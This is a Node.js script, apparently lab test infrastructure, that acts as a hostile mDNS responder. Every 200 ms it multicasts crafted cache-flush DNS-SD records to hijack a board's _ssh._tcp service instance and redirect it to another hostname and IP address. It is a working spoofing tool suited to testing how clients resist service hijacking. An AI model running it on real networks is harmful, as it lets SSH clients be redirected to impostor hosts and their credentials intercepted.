#!/usr/bin/env node
/*
 * TEST INFRASTRUCTURE: a hostile mDNS responder. Run inside a lab device's namespace, it claims an existing
 * board's DNS-SD instance with crafted answers (cache-flush bit set), moving it to another hostname and address:
 *
 *   node mdns-spoof.cjs INSTANCE NEW_HOSTNAME IPV4 SECONDS
 *
 * Every 200 ms it multicasts PTR _ssh._tcp.local -> INSTANCE, SRV INSTANCE -> NEW_HOSTNAME.local:22,
 * TXT mblos and A NEW_HOSTNAME.local -> IPV4, from port 5353 on the same link (as any board could).
 * No dependencies: the DNS message is built by hand.
 */
'use strict';
const dgram = require('node:dgram');

const [instance, hostname, ipv4, seconds = '10'] = process.argv.slice(2);
if (!instance || !hostname || !ipv4) {
  console.error('usage: mdns-spoof.cjs INSTANCE NEW_HOSTNAME IPV4 [SECONDS]');
  process.exit(2);
}

const name = (fqdn) => Buffer.concat([...fqdn.split('.').map((l) => Buffer.concat([Buffer.from([Buffer.byteLength(l)]), Buffer.from(l)])), Buffer.from([0])]);
const u16 = (n) => Buffer.from([n >> 8, n & 0xff]);
const u32 = (n) => Buffer.from([(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]);
const FLUSH = 0x8000;
const record = (owner, type, flush, data) => Buffer.concat([name(owner), u16(type), u16(1 | (flush ? FLUSH : 0)), u32(120), u16(data.length), data]);

const service = '_ssh._tcp.local';
const full = `${instance}.${service}`;
const host = `${hostname}.local`;
const answers = [
  record(service, 12, false, name(full)),
  record(full, 33, true, Buffer.concat([u16(0), u16(0), u16(22), name(host)])),
  record(full, 16, true, Buffer.concat([Buffer.from([5]), Buffer.from('mblos')])),
  record(host, 1, true, Buffer.from(ipv4.split('.').map(Number))),
];
const message = Buffer.concat([u16(0), u16(0x8400), u16(0), u16(answers.length), u16(0), u16(0), ...answers]);

const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true });
socket.bind(5353, () => {
  const send = () => socket.send(message, 5353, '224.0.0.251');
  send();
  const timer = setInterval(send, 200);
  setTimeout(
    () => {
      clearInterval(timer);
      socket.close();
    },
    Number(seconds) * 1000,
  );
});
